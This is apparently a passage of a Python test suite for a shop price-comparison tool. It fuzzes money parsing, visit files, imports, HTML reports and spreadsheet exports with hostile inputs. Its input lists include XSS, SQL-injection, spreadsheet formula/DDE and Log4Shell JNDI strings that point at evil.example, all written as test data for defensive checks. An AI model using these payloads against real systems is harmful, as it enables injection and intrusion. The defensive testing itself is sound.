"""Hostile inputs nobody wrote by hand: hypothesis generates them and drives them through the
paths a user's file, a visit or a shop's page takes, asserting the contract rather than exact
outputs: a clear error naming the row and field, or a value every later stage handles (no
crash, no infinity or NaN in a report, no amount misread a thousandfold, no formula in an
export, nothing already stored lost).

The examples are derandomised and kept few (`HOSTILE`), so the suite stays fast and the same
run passes or fails the same way everywhere.
"""

from __future__ import annotations

import csv
import json
import random
import re
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from storecheck import db, money
from storecheck.cli import cli, init_workspace
from storecheck.models import Offer, OwnProduct, clean_text
from storecheck.money import MAX_AMOUNT, MoneyError, find_price, read_money
from storecheck.money import amounts as money_amounts
from storecheck.money import reading as money_reading
from storecheck.tables import write_table
from storecheck.visits import VisitContext, parse_score, parse_when, validate_visit
from storecheck.visits.parsing import parse_count
from test_visits import make_visit_workspace

HOSTILE = settings(
    max_examples=40, deadline=None, derandomize=True, database=None, print_blob=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
# Each example of these builds a workspace and runs commands on it: fewer, each carrying many rows.
WORKSPACE_EXAMPLES = settings(HOSTILE, max_examples=6)

HOSTILE_PRICES = [
    "1e309", "NaN", "Infinity", "-inf", "-0", "0", "-5", "1" * 40, "1.234.567,89", "1,234", "١٢٣٫٤٥", "١٢٣", "１２３",
    "12,-", "€ 12", "12 €", "$1.2.3", "", " ", "\t", "0,001", "0.500", "0.00001", "9999999999.9999", "10000000000",
    "1_000", "½", "1e3", "0x1F", "(5)", "5-", "€", "€€5", "5 € €", "EUR USD 5", "XXX 5", "5 usd", "1 000 000,00 kr",
    "1'234.50", "12.345.678", "\u00a05\u00a0", "5\u2009000", "--5", "+5", "∞", "1" * 200, " 1" * 60,
]
HOSTILE_TEXTS = [
    "", " ", "<script>alert(1)</script>", "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "'; DROP TABLE own_products; --",
    '=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "x" * 10_000, "\x1b[2J\x1b]0;owned\x07", "a\x00b", "\u202eevil\u202c", "مرحبا بالعالم", "שלום", "🍝🍕👨‍👩‍👧",
    "${jndi:ldap://evil.example/a}", "javascript:alert(1)", "\ufeffBOM", "line\nbreak", "Ｆｕｌｌｗｉｄｔｈ", "a\x0bb\x0cc\x7f",
    '"quoted", with, commas', "[/bold]markup[red]", "\\N", "NULL", "None", "nan", "inf",
]
texts = st.one_of(st.sampled_from(HOSTILE_TEXTS), st.text(max_size=40))
price_texts = st.one_of(
    st.sampled_from(HOSTILE_PRICES),
    st.text(alphabet="0123456789.,'€$£ -", max_size=16),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)


def invoke(workspace, *args):
    return CliRunner().invoke(cli, [*args, "--workspace", str(workspace.path)])


def assert_clean_outcome(result, *, named: bool = True) -> None:
    """A command ends with its output or a message (exit 1), never a traceback; a refused file names
    the line and the column."""
    assert result.exit_code in (0, 1), result.output
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    if result.exit_code == 1 and named:
        assert re.search(r"(line|record) \d+", result.output) and "column" in result.output, result.output


# --- money ------------------------------------------------------------------------------------------


@HOSTILE
@given(price_texts)
def test_any_text_is_an_amount_kept_or_a_money_error(text):
    try:
        amount, _ = read_money(text)
    except MoneyError as exc:
        assert 0 < len(str(exc)) < 300  # a long cell is quoted cut short
        return
    assert amount is None or (amount.is_finite() and abs(amount) <= MAX_AMOUNT)


@HOSTILE
@given(st.one_of(price_texts, st.text(max_size=80)))
def test_any_page_text_gives_a_price_or_none(text):
    amount, _ = find_price(text)
    assert amount is None or amount.is_finite()


# How people write one amount: (thousands mark, decimal mark).
STYLES = [(",", "."), (".", ","), (" ", ","), ("\u00a0", ","), ("'", "."), ("", "."), ("", ",")]
# Prices in cents up to the largest amount kept, and amounts under one with a third decimal
# ("0,500"), which no thousands reading can explain.
amounts = st.one_of(
    st.decimals(min_value=0, max_value=MAX_AMOUNT, places=2),
    st.integers(min_value=0, max_value=999).map(lambda n: Decimal(n).scaleb(-3)),
)


def written(amount: Decimal, style: tuple[str, str], sign: str) -> str:
    thousands, mark = style
    whole, _, fraction = f"{amount:f}".partition(".")
    groups = []
    while len(whole) > 3:
        whole, groups = whole[:-3], [whole[-3:], *groups]
    text = thousands.join([whole, *groups]) + (mark + fraction if fraction else "")
    return {"": text, "€": f"€{text}", " €": f"{text} €", "EUR": f"EUR {text}"}[sign]


@HOSTILE
@given(amounts, st.sampled_from(STYLES), st.sampled_from(["", "€", " €", "EUR"]))
@example(Decimal("0.001"), ("", ","), "")
@example(Decimal("0.500"), ("", ","), " €")
def test_an_amount_written_as_people_write_it_reads_back_exactly(amount, style, sign):
    text = written(amount, style, sign)
    assert read_money(text)[0] == amount, text
    if sign:
        assert find_price(text)[0] == amount, text


@pytest.mark.timeout(120)
def test_price_parser_is_never_handed_a_run_of_digits_longer_than_an_amount(monkeypatch):
    """price-parser's reading takes time that grows with the square of a number's length: 100,000
    digits in a cell or on a page would hold an import or a crawl for hours. Nothing longer than
    any amount reaches it (and the cell's own pattern sees at most a short text)."""
    handed: list[int] = []

    def bounded(function):
        def wrapper(text, *args, **kwargs):
            digits = sum(map(str.isdigit, text))
            handed.append(digits)
            assert digits <= money.MAX_NUMBER_DIGITS, f"{digits} digits handed to price-parser"
            return function(text, *args, **kwargs)
        return wrapper

    class Pattern:
        def __init__(self, pattern):
            self.pattern = pattern

        def fullmatch(self, text):
            assert len(text) <= 1000, f"a text of {len(text)} characters matched against the money pattern"
            return self.pattern.fullmatch(text)

    monkeypatch.setattr(money_reading.Price, "fromstring", staticmethod(bounded(money_reading.Price.fromstring)))
    monkeypatch.setattr(money_amounts, "get_decimal_separator", bounded(money_amounts.get_decimal_separator))
    monkeypatch.setattr(money_reading, "_MONEY_TEXT", Pattern(money_reading._MONEY_TEXT))
    for text in ["1" * 1_000_000, "€" + "1." * 200_000, "1\u00a0" * 100_000, "1" + " " * 100_000 + "$x", "1'" * 100_000]:
        try:
            amount, _ = read_money(text)
        except MoneyError:
            amount = None
        assert amount is None
        find_price(text)
    assert find_price("Price: € 12.99 (incl. VAT)") == (Decimal("12.99"), "€")  # a page's text still reads
    assert max(handed) <= money.MAX_NUMBER_DIGITS


# --- visits -----------------------------------------------------------------------------------------

yaml_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20), st.sampled_from(HOSTILE_TEXTS),
              st.dates(), st.datetimes(timezones=st.sampled_from([None, UTC, timezone(timedelta(hours=14)),
                                                                  timezone(timedelta(hours=-12))]))),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)),
    max_leaves=8,
)


@HOSTILE
@given(st.one_of(yaml_values, st.sampled_from(["1" * 400, "-" + "9" * 5000, "0001-01-01T00:00+05:00",
                                                "9999-12-31T23:59-05:00", "5.0000", "٣", "n/a"])))
def test_typed_scores_counts_and_times_are_read_or_refused_with_a_value_error(value):
    for parse in (parse_score, parse_count, parse_when):
        try:
            parse(value)
        except ValueError as exc:
            assert len(str(exc)) < 300


@pytest.fixture
def visit_ws(workspace):
    return make_visit_workspace(workspace)


VISIT_FIELDS = ["visited_at", "visitor", "duration_minutes", "footfall_count", "footfall_minutes", "holiday",
                "average_ticket", "average_ticket_source", "currency", "score_environment", "score_display",
                "score_hospitality", "notes", "promotions", "products", "price_checks", "criteria", "photos"]


@HOSTILE
@given(st.dictionaries(st.sampled_from(VISIT_FIELDS), yaml_values, max_size=6))
def test_a_visit_of_any_shape_is_valid_or_its_problems_are_named(visit_ws, fields):
    """What a YAML file can hold (numbers, dates, nested lists, texts nobody typed) in any field."""
    data = {"competitor": "Rival", "store": "High Street", "visited_at": "2025-03-01 10:30", **fields}
    visit, problems = validate_visit(data, VisitContext(visit_ws.config, skus={"SKU1"}))
    assert (visit is None) == bool(problems)
    assert all(problem.field and problem.message for problem in problems)


def test_a_date_beyond_utc_and_a_number_of_5000_digits_are_named_in_a_visits_file(visit_ws, tmp_path):
    path = tmp_path / "visits.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["competitor", "store", "visited_at", "footfall_count", "footfall_minutes", "score_display"])
        writer.writerow(["Rival", "High Street", "0001-01-01T00:00+05:00", "12", "10", "4"])
        writer.writerow(["Rival", "High Street", "2025-03-01 10:00", "9" * 5000, "10", "4"])
        writer.writerow(["Rival", "Station", "2025-03-01 10:00", "12", "10", "1" * 400])
    result = invoke(visit_ws, "visit", "import", str(path))
    assert_clean_outcome(result)
    assert result.exit_code == 1
    assert "line 2, column 'visited_at': '0001-01-01T00:00+05:00' is out of the range of dates" in result.output
    assert "line 3, column 'footfall_count'" in result.output and "has too many digits" in result.output
    assert "line 4, column 'score_display'" in result.output


# --- text nobody should trust -----------------------------------------------------------------------


@HOSTILE
@given(st.one_of(texts, st.text(st.characters(codec="utf-8"), max_size=20)))
def test_stored_text_holds_no_control_characters_but_tabs_and_line_breaks(text):
    cleaned = clean_text(text)
    assert cleaned is None or not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", cleaned)


def read_back(path: Path) -> list[list]:
    if path.suffix == ".xlsx":
        sheet = openpyxl.load_workbook(path).active
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", f"{cell.value!r} became a formula"
        return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))[1:]


@HOSTILE
@given(st.lists(st.one_of(texts, st.text(st.characters(codec="utf-8"), max_size=12)), min_size=1, max_size=6),
       st.sampled_from(["csv", "xlsx"]))
def test_an_exported_table_of_any_text_holds_no_formula_and_no_control_character(tmp_path_factory, cells, kind):
    path = tmp_path_factory.mktemp("export") / f"table.{kind}"
    write_table([{"text": cell} for cell in cells], path, ["text"])
    formula = ("=", "+", "-", "@", "\t", "\r")
    for (value,), cell in zip(read_back(path), cells):  # an XLSX cell is checked to be no formula by read_back
        if kind == "csv":
            assert not (value or "").startswith(formula), f"{cell!r} exported as {value!r}"
            # What was written, an apostrophe before a formula's text (a spreadsheet shows it as text).
            assert value == ("'" + cell if cell.startswith(formula) else cell)
        else:
            assert (value or "") == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", cell)


# --- files through every stage ----------------------------------------------------------------------

COLUMNS = ["sku", "name", "brand", "category", "price"]


def write_file(path: Path, kind: str, columns: list[str], rows: list[list[str]]) -> Path:
    path = path.with_suffix("." + kind)
    if kind == "csv":
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows([columns, *rows])
    elif kind == "xlsx":
        book = openpyxl.Workbook()
        sheet = book.active
        for row in [columns, *rows]:
            cells = [re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", value) for value in row]  # what Excel can save
            sheet.append(cells)
            for cell in sheet[sheet.max_row]:
                cell.data_type = "s"
        book.save(path)
    else:
        path.write_text(json.dumps([dict(zip(columns, row)) for row in rows], ensure_ascii=False), encoding="utf-8")
    return path


def stored_prices(workspace) -> dict[str, Decimal | None]:
    with db.open_database(workspace.database_url).connect() as conn:
        return dict(conn.execute(select(db.own_products.c.sku, db.own_products.c.price)).all())


products = st.lists(st.tuples(texts, texts, texts, price_texts), min_size=1, max_size=6)


@WORKSPACE_EXAMPLES
@given(products, products, st.sampled_from(["csv", "xlsx", "json"]))
def test_hostile_files_are_refused_by_row_and_column_or_carried_through_score_report_and_export(
        tmp_path_factory, ours, theirs, kind):
    tmp = tmp_path_factory.mktemp("hostile")
    workspace = init_workspace(tmp / "ws", shop_name="Test Shop", currency="EUR")
    invoke(workspace, "competitor", "add", "Rival")
    # Every product also has a plain twin, so match, score and report have pairs to work on.
    plain = [["P1", "Spaghetti 500 g", "Barilla", "Pasta", "1.99"], ["P2", "Olive oil 1 l", "Bertolli", "Oil", "5.49"]]
    catalogue = write_file(tmp / "catalogue", kind, COLUMNS,
                           plain + [[f"S{n}", name, brand, category, price] for n, (name, brand, category, price) in enumerate(ours)])
    offers = write_file(tmp / "offers", kind, ["key", *COLUMNS[1:]],
                        [["K1", "Spaghetti 500g", "Barilla", "Pasta", "2.09"], ["K2", "Olive oil 1l", "Bertolli", "Oil", "4.99"]]
                        + [[f"R{n}", name, brand, category, price] for n, (name, brand, category, price) in enumerate(theirs)])
    for args in (["catalogue", "import", str(catalogue)], ["offers", "import", str(offers), "--competitor", "Rival"]):
        result = invoke(workspace, *args)
        assert_clean_outcome(result)
        if result.exit_code:
            # Nothing of a refused file is stored; the good rows go in with --skip-invalid.
            assert "nothing was imported" in result.output
            assert_clean_outcome(invoke(workspace, *args, "--skip-invalid"))
    for sku, price in stored_prices(workspace).items():
        assert price is None or (price.is_finite() and 0 <= price <= MAX_AMOUNT), (sku, price)
    assert_clean_outcome(invoke(workspace, "match"), named=False)
    scored = invoke(workspace, "score", "--json")
    assert_clean_outcome(scored, named=False)
    assert scored.exit_code == 0
    json.loads(scored.output, parse_constant=lambda name: pytest.fail(f"{name} in score --json"))
    report = tmp / "report.html"
    assert_clean_outcome(invoke(workspace, "report", "-o", str(report)), named=False)
    page = BeautifulSoup(report.read_text(encoding="utf-8"), "html.parser")
    # The report's own scripts carry its nonce; a name's <script> stays text.
    assert all(script.get("nonce") for script in page.find_all("script"))
    assert not page.find_all(attrs={"onerror": True}) and not page.find_all("iframe")
    for link in page.find_all("a", href=True):
        assert not link["href"].strip().lower().startswith(("javascript:", "data:", "vbscript:")), link
    for cell in page.select("td.num"):  # the figures (a name may well be "nan")
        assert not re.search(r"\b(nan|inf|infinity)\b", cell.get_text(), re.I), cell
    for table, extension in (("offers", "csv"), ("products", "xlsx"), ("price", "csv")):
        out = tmp / f"{table}.{extension}"
        assert_clean_outcome(invoke(workspace, "export", table, str(out)), named=False)
        rows = read_back(out)  # no XLSX cell is a formula
        for value in (value for row in rows for value in row if extension == "csv"):
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or re.fullmatch(r"-[\d.]+", value), value


def test_a_stored_name_reads_back_as_written_bar_control_characters(workspace, tmp_path):
    names = [n for n in HOSTILE_TEXTS if n.strip() and "\x00" not in n] + ["'; DROP TABLE own_products; --"]
    path = write_file(tmp_path / "catalogue", "csv", ["sku", "name", "price"],
                      [[f"S{n}", name, "1.00"] for n, name in enumerate(names)])
    result = invoke(workspace, "catalogue", "import", str(path))
    assert result.exit_code == 0, result.output
    with db.open_database(workspace.database_url).connect() as conn:
        stored = dict(conn.execute(select(db.own_products.c.sku, db.own_products.c.name)).all())
    assert len(stored) == len(names)
    for n, name in enumerate(names):
        # and bar a byte order mark, which two files pasted together carry mid-file (hostile7 F62)
        assert stored[f"S{n}"] == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufeff]", "", name).strip()


@WORKSPACE_EXAMPLES
@given(st.lists(st.tuples(amounts, st.booleans()), min_size=1, max_size=12), st.sampled_from(STYLES[:5]))
def test_a_file_of_prices_written_by_one_hand_is_stored_as_written(tmp_path_factory, prices, style):
    """One hand, one way of writing amounts: the file's own prices settle "1.234" (money.decimal_mark),
    and no price is stored a thousand times too large or too small."""
    tmp = tmp_path_factory.mktemp("prices")
    workspace = init_workspace(tmp / "ws", shop_name="Test Shop", currency="EUR")
    rows = [[f"S{n}", f"Product {n}", written(amount, style, " €" if euro else "")] for n, (amount, euro) in enumerate(prices)]
    result = invoke(workspace, "catalogue", "import", str(write_file(tmp / "catalogue", "csv", ["sku", "name", "price"], rows)))
    assert_clean_outcome(result)
    if result.exit_code == 0:
        assert stored_prices(workspace) == {f"S{n}": amount for n, (amount, _) in enumerate(prices)}


# --- an import the database stops half-way ----------------------------------------------------------


def test_an_import_the_database_stops_half_way_says_what_it_stored_and_loses_nothing(workspace, tmp_path, monkeypatch):
    from sqlalchemy.exc import OperationalError

    from storecheck import catalogue

    path = write_file(tmp_path / "catalogue", "csv", ["sku", "name", "price"],
                      [[f"S{n}", f"Product {n}", "1.00"] for n in range(10)])
    before = write_file(tmp_path / "before", "csv", ["sku", "name", "brand"], [["OLD", "Kept", "Brand"]])
    assert invoke(workspace, "catalogue", "import", str(before)).exit_code == 0
    monkeypatch.setattr(catalogue.results, "WRITE_BATCH_ROWS", 4)
    real = db.upsert_own_products
    calls = []

    def refuses_the_third_batch(conn, batch, fields=None, **kwargs):  # kwargs: `renamed`, and what comes next
        calls.append(len(batch))
        if len(calls) == 3:
            raise OperationalError("INSERT", {}, Exception("database or disk is full"))
        return real(conn, batch, fields, **kwargs)

    monkeypatch.setattr(db, "upsert_own_products", refuses_the_third_batch)
    result = invoke(workspace, "catalogue", "import", str(path))
    assert result.exit_code == 1 and not isinstance(result.exception, OperationalError), result.output
    assert "database or disk is full" in result.output
    assert "the first 8 valid rows of the file are stored (8 inserted" in result.output
    assert "import the file again" in result.output
    assert set(stored_prices(workspace)) == {"OLD", *(f"S{n}" for n in range(8))}

    monkeypatch.setattr(db, "upsert_own_products", real)
    again = invoke(workspace, "catalogue", "import", str(path))
    assert again.exit_code == 0 and "2 new, 0 updated, 8 unchanged" in again.output, again.output
    assert set(stored_prices(workspace)) == {"OLD", *(f"S{n}" for n in range(10))}


def test_models_refuse_hostile_prices_as_a_validation_error_naming_the_field():
    for text in HOSTILE_PRICES:
        for model, fields in ((OwnProduct, {"sku": "S", "name": "N"}), (Offer, {"key": "K"})):
            try:
                item = model(**fields, price=text)
            except ValueError as exc:
                assert "price" in str(exc)
                continue
            assert item.price is None or (item.price.is_finite() and 0 <= item.price <= MAX_AMOUNT)


def test_dates_that_exist_only_in_one_zone_are_refused_not_crashed():
    with pytest.raises(ValueError, match="out of the range of dates"):
        parse_when(datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=5))))
    assert parse_when(datetime(2025, 3, 1, 10, 30, tzinfo=UTC)) == datetime(2025, 3, 1, 10, 30, tzinfo=UTC)
    with pytest.raises(ValueError, match="time of day"):
        parse_when(date(2025, 3, 1))


# --- what a user types in the config ----------------------------------------------------------------

NUMBER_SETTINGS = [("crawl", "download_delay"), ("crawl", "timeout"), ("weights", "price"), ("notify", "timeout"),
                   ("visits", "max_photo_mb"), ("alerts", "price_move_pct"), ("pricing", "same_tolerance"),
                   ("matching", "match_threshold"), ("trends", "window_days")]


@HOSTILE
@given(st.sampled_from(NUMBER_SETTINGS),
       st.sampled_from([float("inf"), float("-inf"), float("nan"), 1e10, -1, 0, 1e308, 10**20, 0.5, 3]))
def test_a_number_typed_in_the_config_is_taken_finite_or_refused_naming_its_key(workspace, setting, value):
    import math

    import tomlkit

    from storecheck.config import ConfigError, load_config

    section, key = setting
    document = tomlkit.parse(workspace.config_path.read_text(encoding="utf-8"))
    document.setdefault(section, tomlkit.table())[key] = value
    path = workspace.config_path.with_name("hostile.toml")
    path.write_text(tomlkit.dumps(document), encoding="utf-8")
    try:
        config = load_config(path)
    except ConfigError as exc:
        assert f"{section}.{key}" in str(exc) or f"{section}: " in str(exc) and key in str(exc), exc
        return
    taken = getattr(getattr(config, section), key)
    assert math.isfinite(taken)
    if (section, key) == ("notify", "timeout"):
        import socket

        with socket.socket() as probe:
            probe.settimeout(taken)  # what every delivery does with it


@pytest.mark.parametrize("currency", ["XXX", "zzz", "XAU", "€", ""])
def test_init_refuses_a_currency_no_shop_prices_in_and_writes_nothing(tmp_path, currency):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "ws"), "--currency", currency])
    assert result.exit_code == 1 and "shop.currency" in result.output, result.output
    assert not (tmp_path / "ws").exists()
    assert CliRunner().invoke(cli, ["init", str(tmp_path / "ws"), "--currency", "EUR"]).exit_code == 0


@pytest.mark.parametrize("name", ['Mike\'s "Best" Shop', "Back\\slash", "Two\nlines", "Tab\there", "ünï 🍝", "{{ 7*7 }}"])
def test_init_keeps_any_shop_name_as_typed(tmp_path, name):
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "ws"), "--shop", name])
    assert result.exit_code == 0, result.output
    from storecheck.config import Workspace

    assert Workspace(tmp_path / "ws").config.shop.name == name


@pytest.mark.parametrize("currency", ["BGN", "HRK"])
def test_a_currency_withdrawn_since_a_workspace_was_set_up_still_loads(tmp_path, currency):
    # pycountry drops a code when a country changes currency (Bulgaria's lev in 2026):
    # a workspace, a price history or a rates file from before still holds it.
    from storecheck.models import normalise_currency

    assert normalise_currency(currency.lower()) == currency
    result = CliRunner().invoke(cli, ["init", str(tmp_path / "ws"), "--currency", currency])
    assert result.exit_code == 0, result.output
    assert CliRunner().invoke(cli, ["competitor", "list", "--workspace", str(tmp_path / "ws")]).exit_code == 0


# --- catalogues nobody here wrote, through match, score and report --------------------------------


def run_commands(workspace, tmp_path, ours: list[list[str]], theirs: list[list[str]],
                 columns: tuple[str, ...] = ("name", "price")) -> dict:
    """Import both files, match, score and report; the score's JSON for the one competitor."""
    invoke(workspace, "competitor", "add", "Rival")
    for args in (["catalogue", "import", str(write_file(tmp_path / "catalogue", "csv", ["sku", *columns], ours))],
                 ["offers", "import", str(write_file(tmp_path / "offers", "csv", ["key", *columns], theirs)),
                  "--competitor", "Rival"],
                 ["match"], ["report", "-o", str(tmp_path / "report.html")]):
        result = invoke(workspace, *args)
        assert result.exit_code == 0 and result.exception is None, result.output
    scored = invoke(workspace, "score", "--json")
    assert scored.exit_code == 0, scored.output
    return json.loads(scored.output, parse_constant=lambda name: pytest.fail(f"{name} in score --json"))["competitors"][0]


def matched_pairs(workspace) -> dict[str, set[str]]:
    with db.open_database(workspace.database_url).connect() as conn:
        rows = conn.execute(select(db.matches.c.sku, db.competitor_products.c.key).join(db.competitor_products)
                            .where(db.matches.c.status == "matched")).all()
    out: dict[str, set[str]] = {}
    for sku, key in rows:
        out.setdefault(sku, set()).add(key)
    return out


def test_a_competitor_listing_every_product_twice_is_counted_once_per_product(workspace, tmp_path):
    ours = [["A", "Barilla Spaghetti n.5 500 g", "2.00"], ["B", "Bertolli Extra Virgin Olive Oil 1 l", "8.00"]]
    # Each listed twice under one name, the second listing dearer: both are the product, and the
    # index compares our price once per product, with the listing it matched first.
    theirs = [["K1", ours[0][1], "2.50"], ["K2", ours[0][1], "2.60"], ["K3", ours[1][1], "10.00"],
              ["K4", ours[1][1], "11.00"]]
    rival = run_commands(workspace, tmp_path, ours, theirs)
    assert matched_pairs(workspace) == {"A": {"K1", "K2"}, "B": {"K3", "K4"}}
    assert rival["matched"] == rival["pairs"] == 2
    assert rival["price_index"] == pytest.approx(80.0)


def test_names_of_digits_punctuation_emoji_or_right_to_left_text_are_matched_on_what_they_say(workspace, tmp_path):
    ours = [["A", "12345678", "1.00"], ["B", "!!!", "1.00"], ["C", "مرحبا بالعالم 🍝", "1.00"], ["D", "שלום עולם", "1.00"],
            ["E", "🍕🍕🍕", "1.00"], ["F", "\u202eevil\u202c name", "1.00"], ["G", "-- / --", "1.00"]]
    theirs = [["K1", "12345678", "1.10"], ["K2", "???", "1.00"], ["K3", "مرحبا بالعالم", "1.10"], ["K4", "שלום עולם 🍕", "1.00"],
              ["K5", "🍕🍕🍕", "1.00"], ["K6", "…", "1.00"], ["K7", "!!!", "1.00"]]
    rival = run_commands(workspace, tmp_path, ours, theirs)
    # A number is a code; words in any script are words; punctuation and emoji say nothing, so
    # nothing is matched on them, not even "!!!" with "!!!".
    assert matched_pairs(workspace) == {"A": {"K1"}, "C": {"K3"}, "D": {"K4"}}
    assert rival["pairs"] == 3
    page = BeautifulSoup((tmp_path / "report.html").read_text(encoding="utf-8"), "html.parser")
    assert "مرحبا بالعالم" in page.get_text()


def test_a_catalogue_of_one_product_against_one_listing(workspace, tmp_path):
    rival = run_commands(workspace, tmp_path, [["A", "Barilla Spaghetti n.5 500 g", "2.00"]],
                         [["K1", "Spaghetti n.5 Barilla, 500g", "2.50"]])
    assert matched_pairs(workspace) == {"A": {"K1"}} and rival["price_index"] == pytest.approx(80.0)


def test_a_matched_pair_at_the_ends_of_the_amounts_kept_gives_a_finite_index(workspace, tmp_path):
    # The smallest and largest amounts the money columns keep, on a pair matched by its GTIN each
    # way (by wording, prices 10^14 apart would only be proposed); a price of zero is stored and
    # left out of the index (no division by it).
    largest = f"{MAX_AMOUNT:f}"
    gtins = ["4006381333931", "5449000000996", "8000070012349", "3017620422003"]
    ours = [["A", "Barilla Spaghetti n.5 500 g", "0.0001"], ["B", "Bertolli Extra Virgin Olive Oil 1 l", largest],
            ["C", "Lavazza Qualita Oro 250 g", "0"], ["D", "Nutella 400 g", "3.00"]]
    theirs = [["K1", "Spaghetti", largest], ["K2", "Olive oil", "0.0001"], ["K3", "Coffee", "4.00"], ["K4", "Spread", "0"]]
    rival = run_commands(workspace, tmp_path, [[*row, g] for row, g in zip(ours, gtins)],
                         [[*row, g] for row, g in zip(theirs, gtins)], columns=("name", "price", "gtin"))
    assert matched_pairs(workspace) == {"A": {"K1"}, "B": {"K2"}, "C": {"K3"}, "D": {"K4"}}
    # Prices 10^18 apart are no comparison of one product: both pairs are left out of the figures, and listed.
    assert rival["pairs"] == 0 and rival["price_index"] is None
    assert sorted(row["sku"] for row in rival["left_out"]) == ["A", "B"]
    page = BeautifulSoup((tmp_path / "report.html").read_text(encoding="utf-8"), "html.parser")
    for cell in page.select("td.num"):
        assert not re.search(r"\b(nan|inf|infinity)\b", cell.get_text(), re.I), cell


def test_two_long_titles_are_compared_word_by_word_only_as_far_as_the_word_rule_reads():
    # A pasted description of 300 characters has some 50 words: the word rule looked each
    # unshared one up among all the other title's words, 18 ms a pair, hours over a catalogue.
    from benchmark._text import extract
    from benchmark.matching import conflicts

    draw = random.Random(3)
    words = ["".join(draw.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8)) for _ in range(120)]
    a, b = extract(" ".join(words[::2])), extract(" ".join(words[1::2]))
    assert len(a.words) > 30 and len(b.words) > 30
    calls = []
    real = conflicts._word_in

    def counted(word, other, **how):
        calls.append(word)
        return real(word, other, **how)

    conflicts._word_in = counted
    try:
        assert conflicts._word_conflict(a, b, "unknown") is None
    finally:
        conflicts._word_in = real
    # Every word is unshared: each side is read one word past WORD_EXTRA, not all 30-odd of them.
    assert len(calls) <= 2 * (conflicts.WORD_EXTRA + 1), len(calls)


def test_ten_thousand_character_names_on_thousands_of_rows_keep_memory_bounded(tmp_path):
    """Names are cut where the matcher reads them (`_text.MAX_TITLE`), so memory grows with the
    rows, not with what a shop pastes into a name: the commands run in a child process, whose peak
    resident memory (its own, or a worker's) it prints."""
    import subprocess
    import sys

    script = tmp_path / "run.py"
    script.write_text(f"""
import csv, random, resource, sys
from click.testing import CliRunner
from storecheck.cli import cli, init_workspace
from pathlib import Path
ws = init_workspace(Path({str(tmp_path / 'ws')!r}), shop_name="Test Shop", currency="EUR")
draw = random.Random(1)
words = ["".join(draw.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(draw.randint(3, 9))) for _ in range(5000)]
def name(n):
    out = f"Product {{n}} "
    while len(out) < 10_000:
        out += draw.choice(words) + " "
    return out[:10_000]
for file, key in (("ours.csv", "sku"), ("theirs.csv", "key")):
    with open({str(tmp_path)!r} + "/" + file, "w", newline="") as handle:
        csv.writer(handle).writerows([[key, "name", "price"], *([f"P{{n}}", name(n), "1.00"] for n in range(2000))])
for args in (["competitor", "add", "Rival"], ["catalogue", "import", {str(tmp_path)!r} + "/ours.csv"],
             ["offers", "import", {str(tmp_path)!r} + "/theirs.csv", "--competitor", "Rival"], ["match"],
             ["score", "--json"], ["report", "-o", {str(tmp_path)!r} + "/report.html"]):
    result = CliRunner().invoke(cli, [*args, "--workspace", ws.path.as_posix()])
    if result.exit_code:
        sys.exit(f"{{args[0]}}: {{result.output}} {{result.exception!r}}")
def own_peak_kb():
    # Linux keeps across exec the peak of the process this one was forked from (the test run, hundreds
    # of MB late in a suite) in ru_maxrss; VmHWM is this program's own.
    try:
        with open("/proc/self/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    except OSError:
        return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print("peak-kb", max(own_peak_kb(), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
""")
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-2000:]
    assert (tmp_path / "ours.csv").stat().st_size > 19_000_000
    # Read in the child: this process's own children include every earlier test's.
    peak_mb = int(re.search(r"^peak-kb (\d+)$", done.stdout, re.M)[1]) / 1024
    if sys.platform == "darwin":
        peak_mb /= 1024  # ru_maxrss is in bytes there (no /proc), in KiB on Linux
    # Two 20 MB files: the import streams them and matching reads 300 characters of each name.
    print(f"peak resident memory of the commands: {peak_mb:.0f} MB")
    assert peak_mb < 600, peak_mb


def statuses(workspace) -> dict[tuple[str, str], tuple[str, str]]:
    with db.open_database(workspace.database_url).connect() as conn:
        rows = conn.execute(select(db.matches.c.sku, db.competitor_products.c.key, db.matches.c.status,
                                   db.matches.c.reason).join(db.competitor_products)).all()
    return {(sku, key): (status, reason) for sku, key, status, reason in rows}


@pytest.mark.parametrize("step", [1, 2])
def test_every_name_identical_on_both_sides_is_proposed_not_paired_by_guess(workspace, tmp_path, step):
    # A feed whose name column holds the same word on every row, at prices 1.00-5.00 or 1.00-9.00:
    # any pairing is a guess, and an index over guessed pairs a made-up number (the rows were
